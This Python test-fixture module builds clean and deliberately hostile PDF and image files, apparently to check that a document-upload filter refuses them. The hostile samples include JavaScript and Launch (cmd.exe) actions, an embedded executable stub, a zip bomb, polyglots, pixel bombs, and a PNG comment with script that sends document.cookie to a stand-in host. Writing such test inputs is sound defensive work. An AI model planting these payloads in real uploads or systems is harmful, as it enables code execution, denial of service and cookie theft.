# Copyright 2026 Vietnam Nationality Dossiers contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Hand-made PDF and image files, clean and hostile, for the upload tests."""

import io
import re
import struct
import zlib

from PIL import Image, PngImagePlugin

CATALOG = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
PAGES = (
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
    b"/Resources<</XObject<</Im0 5 0 R>>>>/Contents 4 0 R>>endobj\n"
)


def pdf(*objects, catalog=CATALOG, tail=b"", trailer=b"/Size 12/Root 1 0 R", startxref=None):
    """A PDF file made of ``objects`` (bytes), after its catalog and page,
    with its cross-reference table (``startxref`` replaces the offset of the
    table, to make a damaged file)."""
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + catalog + PAGES + b"".join(objects)
    offsets = {}
    for match in re.finditer(rb"(?<![0-9])([0-9]+) 0 obj", body):
        offsets[int(match[1])] = match.start()
    size = max(offsets) + 1
    xref = b"xref\n0 %d\n0000000000 65535 f \n" % size
    xref += b"".join(
        b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
        for number in range(1, size)
    )
    position = len(body) if startxref is None else startxref
    return body + xref + b"trailer<<" + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % position + tail


def stream(number, dictionary, data):
    return (
        b"%d 0 obj<<%s/Length %d>>stream\n" % (number, dictionary, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )


def jpeg_bytes(size=(120, 90), color=(180, 170, 150), **save):
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format="JPEG", **save)
    return buffer.getvalue()


def png_bytes(size=(60, 40), pnginfo=None):
    buffer = io.BytesIO()
    Image.new("RGB", size, (20, 120, 200)).save(buffer, format="PNG", pnginfo=pnginfo)
    return buffer.getvalue()


def scanned_pdf():
    """A PDF as a scanner makes it: a JPEG page image, a compressed content
    stream, an object stream holding plain objects, and an opening action
    that only shows the first page."""
    content = zlib.compress(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    image = jpeg_bytes((300, 420))
    objects = zlib.compress(
        b"9 0 10 40 <</Producer(Scanner 3000)/Title(Ho chieu)>> <</Type/Metadata>>"
    )
    return pdf(
        stream(4, b"/Filter/FlateDecode", content),
        stream(
            5,
            b"/Type/XObject/Subtype/Image/Width 300/Height 420/ColorSpace/DeviceRGB"
            b"/BitsPerComponent 8/Filter/DCTDecode",
            image,
        ),
        stream(6, b"/Type/ObjStm/N 2/First 10/Filter/FlateDecode", objects),
        catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj\n",
    )


def pillow_pdf():
    """A PDF written by Pillow from a photo, as phone apps do."""
    buffer = io.BytesIO()
    Image.new("RGB", (400, 560), (235, 232, 220)).save(buffer, format="PDF", resolution=100)
    return buffer.getvalue()


def hostile_pdfs():
    """``{name: (content, reason)}``: hostile PDFs and why each is refused."""
    js_in_object_stream = zlib.compress(b"8 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    bomb = zlib.compress(b"\x00" * (3 * 1024 * 1024))
    return {
        "js_open_action.pdf": (
            pdf(
                b"7 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n",
                catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R>>endobj\n",
            ),
            "javascript",
        ),
        "obfuscated_name.pdf": (
            pdf(
                catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R"
                b"/OpenAction<</S/J#61vaScript/J#53(this.print\\(\\))>>>>endobj\n"
            ),
            "javascript",
        ),
        "document_js.pdf": (
            pdf(
                b"7 0 obj<</Names[(x) 8 0 R]>>endobj\n8 0 obj<</S/JavaScript/JS 9 0 R>>endobj\n",
                catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R/Names<</JavaScript 7 0 R>>>>endobj\n",
            ),
            "javascript",
        ),
        "js_in_object_stream.pdf": (
            pdf(
                stream(
                    6,
                    b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
                    js_in_object_stream,
                )
            ),
            "javascript",
        ),
        "js_in_hex_object_stream.pdf": (
            pdf(
                stream(
                    6,
                    b"/Type/ObjStm/N 1/First 4/Filter[/AHx/Fl]",
                    js_in_object_stream.hex().encode() + b">",
                )
            ),
            "javascript",
        ),
        "launch.pdf": (
            pdf(
                catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R"
                b"/AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\n"
            ),
            "action",
        ),
        "embedded_file.pdf": (
            pdf(
                b"7 0 obj<</Type/Filespec/F(hoa_don.exe)/EF<</F 8 0 R>>>>endobj\n",
                stream(8, b"/Type/EmbeddedFile", b"MZ\x90\x00\x03"),
                catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R"
                b"/Names<</EmbeddedFiles<</Names[(hoa_don.exe) 7 0 R]>>>>>>endobj\n",
            ),
            "embedded",
        ),
        "file_attachment_annotation.pdf": (
            pdf(b"7 0 obj<</Type/Annot/Subtype/FileAttachment/FS 8 0 R/Rect[0 0 9 9]>>endobj\n"),
            "embedded",
        ),
        "rich_media.pdf": (
            pdf(b"7 0 obj<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>endobj\n"),
            "richmedia",
        ),
        "xfa_form.pdf": (
            pdf(catalog=b"1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 7 0 R>>>>endobj\n"),
            "xfa",
        ),
        "encrypted.pdf": (
            pdf(
                b"7 0 obj<</Filter/Standard/V 2/R 3/O<00>/U<00>/P -4>>endobj\n",
                trailer=b"/Size 12/Root 1 0 R/Encrypt 7 0 R",
            ),
            "encrypted",
        ),
        "zip_bomb.pdf": (
            pdf(stream(6, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", bomb)),
            "bomb",
        ),
        "broken_stream.pdf": (
            pdf(stream(6, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"not zlib at all")),
            "unreadable",
        ),
        "pdf_and_zip.pdf": (pdf(tail=b"PK\x03\x04\x14\x00\x00\x00payload.js"), "polyglot"),
        "fake_stream_in_string.pdf": (
            # A reader sees a string, then an object: the fake stream hides nothing.
            pdf(
                b"(<</Subtype/Image/Length 40>>stream\n)7 0 obj<</S/JavaScript>>endobj(endstream)\n"
            ),
            "javascript",
        ),
    }


def png_chunk(kind, data):
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_header_only(width, height):
    """A PNG whose header announces ``width`` × ``height`` pixels."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def hostile_images():
    """``{name: (content, reason)}``: hostile images and why each is refused."""
    script_text = PngImagePlugin.PngInfo()
    script_text.add_text("Comment", '<script>fetch("//x.example/"+document.cookie)</script>')
    zipped_script = PngImagePlugin.PngInfo()
    zipped_script.add_text("Description", "<svg onload=alert(1)>", zip=True)
    jpeg = jpeg_bytes()
    photo = io.BytesIO()
    Image.effect_noise((320, 240), 60).convert("RGB").save(photo, format="JPEG", quality=90)
    photo = photo.getvalue()
    return {
        "html_after_png.png": (png_bytes() + b"<html><script>alert(1)</script></html>", "polyglot"),
        "pdf_after_jpeg.jpg": (jpeg + b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", "polyglot"),
        "zip_after_jpeg.jpg": (jpeg + b"PK\x03\x04\x14\x00\x08\x00evil.html", "polyglot"),
        "script_in_png_text.png": (png_bytes(pnginfo=script_text), "image_script"),
        "script_in_compressed_text.png": (png_bytes(pnginfo=zipped_script), "image_script"),
        "script_in_jpeg_comment.jpg": (
            jpeg[:2] + b"\xff\xfe\x00\x1e<script>alert(1)</script>\x00\x00\x00" + jpeg[2:],
            "image_script",
        ),
        "truncated.jpg": (photo[: len(photo) * 2 // 3], "image_damaged"),
        "pixel_bomb.png": (png_header_only(12_000, 12_000), "image_too_large"),
        "huge_pixel_bomb.png": (png_header_only(40_000, 40_000), "image_too_large"),
    }
